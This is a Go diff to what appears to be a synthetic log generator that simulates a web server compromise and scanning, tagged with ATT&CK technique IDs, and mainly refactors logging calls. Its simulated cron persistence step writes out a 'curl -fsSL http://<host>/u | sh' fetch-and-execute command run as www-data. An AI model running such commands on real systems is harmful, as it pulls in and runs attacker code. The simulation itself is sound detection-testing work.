@@ -51,12 +51,12 @@ func sowCron(s *sowing) {
 		l.execute(execution{exe: "/usr/bin/dash", args: []string{"sh", "-c", line}, cwd: "/var/www", uid: 33, auid: 4294967295, ppid: 1190, pid: pid, tty: "(none)"})
 		l.execute(execution{exe: "/usr/bin/crontab", args: []string{"crontab", "-"}, cwd: "/var/www", uid: 33, auid: 4294967295, ppid: pid, pid: pid + 1, tty: "(none)"})
 		l.auditWrite("/usr/bin/crontab", []string{"crontab", "-"}, "/var/spool/cron/crontabs/tmp.x7Qa1d", "cron", 33, 4294967295, pid, pid+1)
-		l.loggedSys(facilityCron, "crontab", pid+1, 6, "(www-data) REPLACE (www-data)")
+		l.loggedSys(facilityCron, "crontab", pid+1, "(www-data) REPLACE (www-data)")
 	})
 	s.linux(10*time.Minute, "T1053.003", "The job of www-data runs", func(l *linux) {
 		line := "curl -fsSL http://" + l.h.raid.code + "/u | sh"
 		pid := l.nextPID()
-		l.loggedSys(facilityCron, "CRON", pid, 6, "(www-data) CMD (", line, ")")
+		l.loggedSys(facilityCron, "CRON", pid, "(www-data) CMD (", line, ")")
 		l.execute(execution{exe: "/usr/bin/dash", args: []string{"/bin/sh", "-c", line}, cwd: "/var/www", uid: 33, auid: 33, ppid: pid - 1, pid: pid, tty: "(none)"})
 	})
 }
@@ -106,7 +106,7 @@ func sowScan(s *sowing) {
 		s.on(LinuxWeb, time.Duration(i)*400*time.Millisecond, "T1595.002 T1595.003", "A scanner asks for what is not there", func(h *host) {
 			path := scanPaths[i%len(scanPaths)]
 			if i >= len(scanPaths) {
-				path = "/" + string(appendLetters(nil, h.rand, 7)) + path
+				path = "/" + letters(h.rand, 7) + path
 			}
 			h.linux.log(hit{from: h.raid.entry, method: "GET", path: path, agent: "Mozilla/5.0 zgrab/0.x", status: 404, size: 512})
 		})
